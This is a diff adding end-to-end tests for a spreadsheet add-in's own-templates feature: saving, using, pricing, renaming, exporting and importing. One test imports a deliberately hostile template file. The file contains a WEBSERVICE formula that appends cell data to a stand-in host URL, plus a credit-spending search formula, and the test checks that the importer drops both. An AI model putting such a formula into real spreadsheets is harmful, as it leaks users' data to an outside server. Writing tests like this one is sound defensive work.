@@ -1,0 +1,121 @@
+// A sheet saved as one's own template: used with samples, filled for a price that was shown, exported and imported.
+import { readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { describeJourneys, type Journey } from './support/journey';
+import { formulaAt } from './support/sharingPane';
+import { builtCard, errorsOn, fill } from './support/templatesPane';
+
+const withKey = { withKey: true };
+
+async function prepareSheet({ playground }: Journey): Promise<void> {
+  await playground.type('A1', [
+    ['Word', 'Length'],
+    ['iphone', '=LEN(A2)'],
+    ["'01234", '=TODAY()'],
+  ]);
+  await playground.type('A6', '=RURETAIL.SEARCH(A2,3)');
+  await playground.table('A6');
+  await playground.type('D2', '=ROWS(A6#)');
+  await playground.waitForCell('D2', 4);
+}
+
+async function save({ playground }: Journey, name: string): Promise<void> {
+  const { pane } = playground;
+  await pane.getByRole('tab', { name: 'Start' }).click();
+  await pane.getByRole('button', { name: 'Save this sheet as a template' }).click();
+  await pane.getByRole('textbox', { name: 'Name of the template' }).fill(name);
+  await pane.getByRole('button', { name: 'Save', exact: true }).click();
+}
+
+const section = ({ playground }: Journey) => playground.pane.getByRole('region', { name: 'Your templates' });
+const card = (world: Journey, name: string) => section(world).getByRole('article', { name, exact: true });
+
+describeJourneys('own templates', (journey) => {
+  journey(
+    'a sheet becomes a template, is used twice side by side, and is filled for the price that was shown',
+    async (world) => {
+      const { playground, stack } = world;
+      await prepareSheet(world);
+      const before = await stack.sandbox.counters();
+      await save(world, 'My search');
+      await section(world)
+        .getByText('Saved as “My search”. 1 formula kept as values: B3 uses TODAY.')
+        .waitFor();
+      await card(world, 'My search').getByRole('button', { name: 'Use My search' }).click();
+      await section(world).getByText('Added: Sheet1 2. The rows are samples and cost nothing.').waitFor();
+      await card(world, 'My search').getByRole('button', { name: 'Use My search' }).click();
+      await section(world).getByText('Added: Sheet1 3. The rows are samples and cost nothing.').waitFor();
+      await playground.quiet();
+      const sheets = ['Sheet1', 'Sheet1 2', 'Sheet1 3'];
+      expect(await playground.sheets()).toEqual(sheets);
+      expect(await errorsOn(playground, sheets)).toEqual([]);
+      expect(await playground.values("'Sheet1 2'!A1:B2")).toEqual([
+        ['Word', 'Length'],
+        ['iphone', 6],
+      ]);
+      expect(await playground.value("'Sheet1 2'!A3")).toBe('01234');
+      expect(await formulaAt(playground, "'Sheet1 2'!A6")).toBe('');
+      expect(await stack.sandbox.counters()).toEqual(before);
+
+      await playground.type("'Sheet1 2'!A2", 'macbook');
+      await fill(playground, builtCard(playground, 'My search', ['Sheet1 2']), '1 request: 1 credit');
+      expect(await formulaAt(playground, "'Sheet1 2'!A6")).toBe('=RURETAIL.SEARCH(A2,3)');
+      await playground.waitForCell("'Sheet1 2'!D2", 4);
+      expect(await errorsOn(playground, sheets)).toEqual([]);
+      // The second one is as it was.
+      expect(await formulaAt(playground, "'Sheet1 3'!A6")).toBe('');
+      const after = await stack.sandbox.counters();
+      expect([after.requests, after.credits]).toEqual([before.requests + 1, before.credits + 1]);
+    },
+    withKey,
+  );
+
+  journey(
+    'a template is renamed, deleted, restored, exported and imported, and a hostile file can spend nothing',
+    async (world) => {
+      const { playground, stack } = world;
+      await prepareSheet(world);
+      const before = await stack.sandbox.counters();
+      await save(world, 'First');
+      await card(world, 'First').getByRole('button', { name: 'Rename' }).click();
+      await card(world, 'First').getByRole('textbox', { name: 'New name' }).fill('Renamed');
+      await card(world, 'First').getByRole('button', { name: 'Save' }).click();
+      const renamed = card(world, 'Renamed');
+      const download = playground.page.waitForEvent('download');
+      await renamed.getByRole('button', { name: 'Export' }).click();
+      const exported = JSON.parse(readFileSync(await (await download).path(), 'utf8')) as Record<
+        string,
+        unknown
+      >;
+      expect(JSON.stringify(exported)).not.toMatch(/sandbox-/);
+      await renamed.getByRole('button', { name: 'Delete' }).click();
+      await renamed.waitFor({ state: 'detached' });
+      await section(world).getByRole('button', { name: 'Undo delete' }).click();
+      await renamed.waitFor();
+
+      const file = path.join(tmpdir(), `template-${process.pid}.json`);
+      const rows = [
+        [{ f: '=WEBSERVICE("https://x.test/?"&B1)' }, { f: '=NLRETAIL.SEARCH("tea",150)' }, 'ok'],
+      ];
+      writeFileSync(file, JSON.stringify({ ...exported, title: 'Theirs', rows, live: [] }));
+      await playground.pane.getByLabel('Template file').setInputFiles(file);
+      await section(world)
+        .getByText(
+          'Imported “Theirs”. 2 formulas left out: A1 uses WEBSERVICE; B1 calls Spillway among the samples.',
+        )
+        .waitFor();
+      await card(world, 'Theirs').getByRole('button', { name: 'Use Theirs' }).click();
+      await section(world).getByText('Added: Sheet1 2.').waitFor();
+      await playground.quiet();
+      expect(await playground.values("'Sheet1 2'!A1:C1")).toEqual([['', '', 'ok']]);
+      writeFileSync(file, '{"spillway":"template"}');
+      await playground.pane.getByLabel('Template file').setInputFiles(file);
+      await section(world)
+        .getByText(/is not a Spillway template/)
+        .waitFor();
+      expect(await stack.sandbox.counters()).toEqual(before);
+    },
+    withKey,
+  );
+});
